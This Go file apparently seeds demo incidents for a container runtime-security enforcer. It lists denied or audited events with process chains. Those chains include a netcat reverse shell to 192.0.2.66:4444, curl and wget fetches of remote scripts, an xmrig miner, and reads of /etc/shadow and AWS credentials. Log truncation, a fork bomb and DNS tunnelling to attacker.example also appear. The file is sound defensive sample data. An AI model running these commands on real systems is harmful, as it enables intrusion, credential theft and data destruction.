package seed

import (
	"time"

	"github.com/limpet-security/limpet/internal/event/eventpb"
	"github.com/limpet-security/limpet/internal/policy"
)

// incidents has at least one event of every control, as enforcers tell them.
func incidents() []incident {
	all := append(programs(), files()...)
	all = append(all, network()...)
	return append(all, privileges()...)
}

const (
	web     = "shop-web-7d9f-x2k4p"
	fargate = "ip-10-20-4-17.eu-central-1.compute.internal"
	pay     = "payments-gateway-0"
	edge    = "edge-proxy-00012-vax"
	minute  = time.Minute
)

func image(path, name string) *eventpb.FileObject {
	return &eventpb.FileObject{Path: path, Requested: path, Digest: digest(name), Dev: 66, Ino: 91823, Mode: 0o100755, Origin: "image"}
}

func dropped(path string) *eventpb.FileObject {
	f := image(path, path)
	f.Origin = "drifted"
	return f
}

func programs() []incident {
	exec := eventpb.Kind_KIND_EXEC
	shell := func(pid int32, exe string, args ...string) []*eventpb.Process {
		return webShell(proc(pid, 101, exe, args...))
	}
	modified := image("/usr/bin/curl", "curl, changed")
	modified.Origin, modified.ExpectedDigest = "modified", digest("curl")
	memory := &eventpb.FileObject{Path: "/memfd:kworker (deleted)", Requested: "/proc/self/fd/5", Digest: digest("memfd"), Mode: 0o100777, Fileless: true, Origin: "drifted"}
	script := dropped("/tmp/x.sh")
	script.Interpreter = "/bin/dash"
	session := proc(733, 0, "/bin/bash")
	session.Outside, session.Session = true, 733
	all := []incident{
		{host: web, ago: 2 * minute, kind: exec, verdict: denied, control: policy.Drift, rule: "drifted", policy: "default", errno: eacces, count: 12, chain: shell(431, "/tmp/.X11-unix/xmrig", "-o", "stratum+tcp://pool.example.org:3333", "--user=…"), file: dropped("/tmp/.X11-unix/xmrig")},
		{host: web, ago: 3 * minute, kind: exec, verdict: denied, control: policy.Drift, rule: "modified", policy: "default", errno: eacces, killed: true, chain: shell(430, "/usr/bin/curl", "-s", "https://192.0.2.66/"), file: modified},
		{host: web, ago: 4 * minute, kind: exec, verdict: denied, control: policy.Drift, rule: "script", policy: "default", errno: eacces, chain: shell(429, "/bin/dash", "/tmp/x.sh"), file: script, more: map[string]string{"named": "/tmp/x.sh"}},
		{host: web, ago: 6 * minute, kind: exec, verdict: denied, control: policy.Fileless, rule: "memory", policy: "default", errno: eacces, chain: shell(428, "/usr/bin/perl", "-e", "syscall(319,…)"), file: memory},
		{host: web, ago: 8 * minute, kind: exec, verdict: denied, control: policy.PackageManagers, rule: "apt-get", policy: "default", errno: eacces, chain: shell(427, "/usr/bin/apt-get", "install", "-y", "netcat-openbsd"), file: image("/usr/bin/apt-get", "apt-get")},
		{host: web, ago: 9 * minute, kind: exec, verdict: denied, control: policy.ReverseShell, rule: "stdin+stdout+stderr", policy: "default", errno: eacces, killed: true, chain: shell(426, "/bin/bash", "-i"), file: image("/bin/bash", "bash"),
			more: map[string]string{"peer": "192.0.2.66:4444", "socket_fds": "0,1,2"}},
		{host: web, ago: 11 * minute, kind: exec, verdict: denied, control: policy.DeniedExecutables, rule: "names:nc", policy: "web-servers", errno: eacces, chain: shell(425, "/usr/bin/nc", "-e", "/bin/sh", "192.0.2.66", "4444"), file: image("/usr/bin/nc", "nc")},
		{host: web, ago: 12 * minute, kind: exec, verdict: denied, control: policy.Interpreters, rule: "inlineCode", policy: "web-servers", errno: eacces, chain: shell(424, "/usr/bin/python3", "-c", "import socket,os,pty;…"), file: image("/usr/bin/python3", "python3"), more: map[string]string{"named": "python3 -c"}},
		{host: web, ago: 13 * minute, kind: exec, verdict: denied, control: policy.Preload, rule: "LD_PRELOAD", policy: "web-servers", errno: eacces, chain: shell(423, "/usr/bin/id"), file: image("/usr/bin/id", "id"), more: map[string]string{"named": "LD_PRELOAD=/tmp/libhide.so"}},
		{host: web, ago: 50 * minute, kind: exec, verdict: audited, control: policy.SetuidBinaries, rule: "setuid", policy: "default", count: 288, chain: under(proc(99, 101, "/bin/ping", "-c1", "10.20.0.1"), proc(7, 0, "/usr/sbin/nginx", "-g", "daemon off;")), file: image("/bin/ping", "ping")},
		{host: web, ago: 70 * minute, kind: exec, verdict: audited, control: policy.ExecSessions, rule: "session", policy: "web-servers", chain: under(session), file: image("/bin/bash", "bash"), more: map[string]string{"session": "733"}},
		{host: pay, ago: 20 * minute, kind: exec, verdict: denied, control: policy.AllowedExecutables, rule: "not-listed", policy: "payments-strict", errno: eacces, chain: under(proc(210, 1000, "/usr/bin/wget", "http://192.0.2.66/p"), proc(20, 1000, "/usr/lib/jvm/temurin-21/bin/java", "-jar", "/opt/payments/gateway.jar")), file: image("/usr/bin/wget", "wget")},
		{host: pay, ago: 22 * minute, kind: exec, verdict: denied, control: policy.BindShell, rule: "stdin+stdout", policy: "payments-strict", errno: eacces, killed: true, chain: under(proc(211, 1000, "/bin/sh", "-i"), proc(20, 1000, "/usr/lib/jvm/temurin-21/bin/java", "-jar", "/opt/payments/gateway.jar")), file: image("/bin/sh", "sh"), more: map[string]string{"peer": "198.51.100.7:50122", "socket_fds": "0,1"}},
		{host: pay, ago: 25 * minute, kind: exec, verdict: denied, control: policy.Users, rule: "noRoot", policy: "payments-strict", errno: eacces, chain: under(proc(212, 0, "/usr/bin/id"), proc(1, 0, "/bin/sh")), file: image("/usr/bin/id", "id"), more: map[string]string{"ids": "uid 0, gid 0"}},
		{host: pay, ago: 95 * minute, kind: eventpb.Kind_KIND_LIFECYCLE, verdict: denied, control: policy.ImageAssurance, rule: "expired", policy: "payments-strict", errno: eacces, killed: true,
			more: map[string]string{"result": "pass", "signer": digest("verdict key")[len("sha256:"):], "judged_at": "2026-10-20T08:00:00Z", "expires_at": "2026-11-19T08:00:00Z"}},
		{host: web, ago: 14 * minute, kind: exec, verdict: denied, control: policy.Honeypots, rule: "env", policy: "web-servers", errno: eacces, chain: shell(422, "/usr/bin/aws", "s3", "ls"), file: image("/usr/bin/aws", "aws"), more: map[string]string{"decoy": "AWS_BACKUP_SECRET"}},
	}
	for _, i := range all {
		// When a program is judged its process still runs the caller's.
		if len(i.chain) > 1 {
			p := i.chain[0]
			p.Exe, p.Comm, p.Digest = i.chain[1].Exe, i.chain[1].Comm, i.chain[1].Digest
		}
	}
	return all
}

func files() []incident {
	file := eventpb.Kind_KIND_FILE
	php := under(proc(38, 101, "/usr/sbin/php-fpm8.2", "--nodaemonize"), proc(7, 0, "/usr/sbin/nginx", "-g", "daemon off;"))
	of := func(path, operation, call string) *eventpb.FileObject {
		return &eventpb.FileObject{Path: path, Requested: path, Dev: 66, Ino: 4711, Mode: 0o100644, Operation: operation, Syscall: call}
	}
	changed := of("/etc/passwd", "modify", "openat")
	changed.DigestBefore, changed.DigestAfter, changed.Detail = digest("passwd"), digest("passwd with toor"), "O_WRONLY|O_APPEND"
	moved := of("/usr/share/nginx/html/index.html", "move", "renameat2")
	moved.OtherPath = "/tmp/defaced.html"
	attributes := of("/etc/nginx/nginx.conf", "attributes", "fchmodat")
	attributes.Detail = "mode 0777"
	return []incident{
		{host: web, ago: 15 * minute, kind: file, verdict: denied, control: policy.FileRead, rule: "/etc/shadow", policy: "web-servers", errno: eacces, chain: webShell(proc(421, 101, "/bin/cat", "/etc/shadow")), file: of("/etc/shadow", "read", "openat")},
		{host: web, ago: 16 * minute, kind: file, verdict: denied, control: policy.ReadOnlyFiles, rule: "/usr/share/nginx/**", policy: "web-servers", errno: eacces, chain: php, file: moved},
		{host: web, ago: 17 * minute, kind: file, verdict: denied, control: policy.ReadOnlyFiles, rule: "/etc/nginx/**", policy: "web-servers", errno: eacces, count: 3, chain: php, file: attributes},
		{host: fargate, ago: 18 * minute, kind: file, verdict: audited, control: policy.FileIntegrity, rule: "/etc/**", policy: "web-servers", chain: under(proc(61, 0, "/usr/bin/tee", "-a", "/etc/passwd"), proc(60, 0, "/bin/dash")), file: changed, more: map[string]string{"size": "1412", "opened": "1"}},
		{host: pay, ago: 26 * minute, kind: file, verdict: denied, control: policy.FileWrite, rule: "/opt/payments/**", policy: "payments-strict", errno: eacces, chain: under(proc(20, 1000, "/usr/lib/jvm/temurin-21/bin/java", "-jar", "/opt/payments/gateway.jar")), file: of("/opt/payments/plugins/a.jar", "create", "openat")},
		{host: pay, ago: 23 * time.Hour, kind: file, verdict: denied, control: policy.Volumes, rule: "/var/run/docker.sock", policy: "payments-strict", file: &eventpb.FileObject{Path: "/var/run/docker.sock", OtherPath: "/docker.sock", Operation: "mount", Detail: "source tmpfs"}},
		{host: web, ago: 19 * minute, kind: file, verdict: denied, control: policy.Honeypots, rule: "/root/.aws/credentials", policy: "web-servers", errno: eacces, chain: webShell(proc(420, 0, "/bin/cat", "/root/.aws/credentials")), file: of("/root/.aws/credentials", "read", "openat")},
		{host: web, ago: 24 * minute, kind: file, verdict: denied, control: policy.SystemTampering, rule: "/var/log/nginx/**", policy: "web-servers", errno: eperm, chain: webShell(proc(419, 101, "/usr/bin/truncate", "-s0", "/var/log/nginx/access.log")), file: of("/var/log/nginx/access.log", "modify", "truncate")},
	}
}

func network() []incident {
	net, name := eventpb.Kind_KIND_NETWORK, eventpb.Kind_KIND_NETWORK
	to := func(protocol, address string, port uint32) *eventpb.NetworkObject {
		return &eventpb.NetworkObject{Protocol: protocol, Address: address, Port: port, Direction: "outbound"}
	}
	curl := func() []*eventpb.Process {
		return webShell(proc(418, 101, "/usr/bin/curl", "-s", "http://192.0.2.66/x.sh"))
	}
	jvm := under(proc(20, 1000, "/usr/lib/jvm/temurin-21/bin/java", "-jar", "/opt/payments/gateway.jar"))
	return []incident{
		{host: web, ago: 5 * minute, kind: net, verdict: denied, control: policy.Metadata, rule: "instance-metadata", policy: "default", errno: refuse, count: 4, chain: curl(), net: to("tcp", "169.254.169.254", 80)},
		{host: web, ago: 7 * minute, kind: net, verdict: denied, control: policy.Outbound, rule: "not-listed", policy: "web-servers", errno: refuse, chain: curl(), net: to("tcp", "192.0.2.66", 80)},
		{host: edge, ago: 27 * minute, kind: net, verdict: audited, control: policy.Outbound, rule: "not-listed", policy: "web-servers", count: 31, chain: under(proc(9, 0, "/usr/local/sbin/haproxy", "-W", "-db")), net: to("tcp", "2001:db8:85a3::8a2e:370:7334", 8443)},
		{host: web, ago: 28 * minute, kind: net, verdict: denied, control: policy.Outbound, rule: "not-listed", policy: "web-servers", errno: refuse, chain: curl(), net: to("unix", "/var/run/docker.sock", 0)},
		{host: pay, ago: 29 * minute, kind: net, verdict: denied, control: policy.Inbound, rule: "not from the office", policy: "payments-strict", chain: jvm, net: &eventpb.NetworkObject{Protocol: "tcp", Direction: "inbound", Address: "203.0.113.77", Port: 51022, LocalAddress: "10.20.4.9", LocalPort: 8443}},
		{host: web, ago: 30 * minute, kind: net, verdict: denied, control: policy.Bind, rule: "not-listed", policy: "web-servers", errno: eacces, chain: curl(), net: &eventpb.NetworkObject{Protocol: "tcp", Direction: "inbound", LocalAddress: "0.0.0.0", LocalPort: 31337}},
		{host: pay, ago: 31 * minute, kind: net, verdict: denied, control: policy.LowPorts, rule: "below", policy: "payments-strict", errno: eacces, chain: jvm, net: &eventpb.NetworkObject{Protocol: "tcp", Direction: "inbound", LocalAddress: "::", LocalPort: 443}},
		{host: web, ago: 32 * minute, kind: eventpb.Kind_KIND_SOCKET, verdict: denied, control: policy.SocketFamilies, rule: "alg", policy: "default", errno: 97, chain: curl(), net: &eventpb.NetworkObject{Protocol: "other", Direction: "outbound", Domain: 38, Type: 5}},
		{host: web, ago: 33 * minute, kind: name, verdict: denied, control: policy.DNS, rule: "example.net", policy: "web-servers", chain: curl(), dns: &eventpb.DnsObject{Name: "drop.example.net", Type: "A", Server: "10.20.0.2:53", Protocol: "udp"}},
		{host: web, ago: 34 * minute, kind: name, verdict: denied, control: policy.DNS, rule: "rebinding", policy: "web-servers", chain: curl(), dns: &eventpb.DnsObject{Name: "cdn.attacker.example", Type: "A", Server: "10.20.0.2:53", Protocol: "udp", Target: "lb.attacker.example", Address: "10.20.0.5"}},
		{host: web, ago: 35 * minute, kind: name, verdict: denied, control: policy.DNS, rule: "tunnel", policy: "web-servers", count: 214, chain: curl(), dns: &eventpb.DnsObject{Name: "6a7f3c0e9b1d5f2a8c4e7b3d9f1a5c8e2b6d0f4a7c3e9b5d1f8a2c6e0b4d7f3a.t.attacker.example", Type: "TXT", Server: "10.20.0.2:53", Protocol: "udp", Tunnel: "214 different names of 64 characters below attacker.example in 60 s"}},
		{host: web, ago: 36 * minute, kind: net, verdict: denied, control: policy.PortScan, rule: "maxPorts", policy: "web-servers", errno: refuse, count: 61, chain: webShell(proc(417, 101, "/tmp/scan", "10.20.0.5")), net: to("tcp", "10.20.0.5", 8009), more: map[string]string{"ports": "21", "hosts": "1"}},
		{host: pay, ago: 37 * minute, kind: net, verdict: denied, control: policy.Reputation, rule: "addresses", policy: "payments-strict", errno: refuse, chain: jvm, net: to("tcp", "198.51.100.23", 443)},
		{host: web, ago: 38 * minute, kind: net, verdict: denied, control: policy.Miners, rule: "stratum", policy: "web-servers", errno: refuse, killed: true, chain: webShell(proc(416, 101, "/usr/bin/perl", "m.pl")), net: to("tcp", "192.0.2.80", 3333), more: map[string]string{"method": "mining.subscribe"}},
		{host: web, ago: 39 * minute, kind: name, verdict: denied, control: policy.Miners, rule: "pool", policy: "web-servers", chain: curl(), dns: &eventpb.DnsObject{Name: "xmr.pool.example.org", Type: "AAAA", Server: "10.20.0.2:53", Protocol: "udp"}},
	}
}

func privileges() []incident {
	privilege := eventpb.Kind_KIND_PRIVILEGE
	call := func(name, detail string) *eventpb.CallObject {
		return &eventpb.CallObject{Syscall: name, Detail: detail}
	}
	by := func(pid int32, exe string, args ...string) []*eventpb.Process {
		return webShell(proc(pid, 101, exe, args...))
	}
	cron := under(proc(301, 33, "/usr/sbin/cron", "-f"), proc(7, 0, "/usr/bin/dumb-init"))
	return []incident{
		{host: web, ago: 40 * minute, kind: privilege, verdict: denied, control: policy.Namespaces, rule: "user", policy: "default", errno: eperm, chain: by(415, "/usr/bin/unshare", "-Ur"), call: call("unshare", "CLONE_NEWUSER")},
		{host: web, ago: 41 * minute, kind: privilege, verdict: denied, control: policy.Mounts, rule: "mount", policy: "default", errno: eperm, chain: by(414, "/bin/mount", "/dev/sda1", "/mnt"), call: call("mount", "/mnt")},
		{host: web, ago: 42 * minute, kind: privilege, verdict: denied, control: policy.KernelInterfaces, rule: "bpf", policy: "default", errno: eperm, chain: by(413, "/tmp/probe"), call: call("bpf", "command 5")},
		{host: web, ago: 43 * minute, kind: privilege, verdict: denied, control: policy.Injection, rule: "ptrace", policy: "default", errno: eperm, chain: by(411, "/usr/bin/gdb", "-p", "38"), call: call("ptrace", "PTRACE_ATTACH, pid 38")},
		{host: "importer-29384", ago: 44 * minute, kind: privilege, verdict: audited, control: policy.PrivilegeChange, rule: "raise-user", policy: "default", count: 17, chain: cron, call: call("setresuid", "uid 0")},
		{host: pay, ago: 45 * minute, kind: eventpb.Kind_KIND_PROCESS, verdict: denied, control: policy.ProcessLimit, rule: "maxTasks", policy: "default", errno: again, count: 940, chain: by(410, "/bin/dash", "-c", ":(){ :|:& };:"), call: call("clone", "new process, 16384 tasks")},
		{host: pay, ago: 46 * minute, kind: privilege, verdict: audited, control: policy.AnonymousExecutable, rule: "mprotect", policy: "payments-strict", chain: by(409, "/usr/bin/perl", "sc.pl"), call: call("mprotect", "anonymous memory, executable"), more: map[string]string{"syscall": "mprotect"}},
		{host: web, ago: 47 * minute, kind: privilege, verdict: denied, control: policy.SystemTampering, rule: "clock", policy: "web-servers", errno: eperm, chain: by(408, "/bin/date", "-s", "2020-01-01"), call: call("clock_settime", "")},
		{host: pay, ago: 23*time.Hour - minute, kind: privilege, verdict: denied, control: policy.Capabilities, rule: "drop", policy: "payments-strict", chain: under(proc(7, 0, "/docker-entrypoint.sh")), call: call("execve", "NET_RAW, MKNOD")},
		{host: pay, ago: 48 * minute, kind: privilege, verdict: audited, control: policy.Syscalls, rule: "deny", policy: "payments-strict", chain: by(407, "/tmp/probe"), call: call("acct", "")},
		{host: web, ago: 49 * minute, kind: eventpb.Kind_KIND_TAMPER, verdict: denied, control: policy.SelfProtection, rule: "kill", errno: eperm, count: 6, chain: by(406, "/bin/kill", "-9", "1"), call: call("kill", "signal 9 to the enforcer")},
	}
}
